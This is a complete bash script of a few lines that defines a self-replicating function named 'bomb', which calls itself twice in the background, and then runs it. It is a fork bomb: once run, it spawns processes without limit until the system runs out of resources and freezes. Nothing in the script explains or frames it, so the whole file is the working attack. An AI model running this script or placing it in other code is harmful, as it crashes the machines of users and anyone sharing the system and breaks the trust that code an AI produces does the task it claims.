#!/bin/bash

bomb() {
  bomb | bomb &
}

bomb
echo "leaving"
